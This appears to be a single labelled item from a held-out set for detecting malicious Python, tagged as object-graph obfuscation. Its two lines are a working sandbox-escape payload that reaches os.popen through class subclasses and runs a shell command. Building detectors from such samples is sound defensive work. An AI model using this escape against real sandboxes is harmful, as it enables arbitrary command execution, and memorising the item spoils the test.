# label: malicious; obfuscated: object_graph; evasion: object_graph; set: heldout2
k = [c for c in ().__class__.__bases__[0].__subclasses__() if "wrap" in c.__name__][0]
print(k.__init__.__globals__["popen"]("id").read())
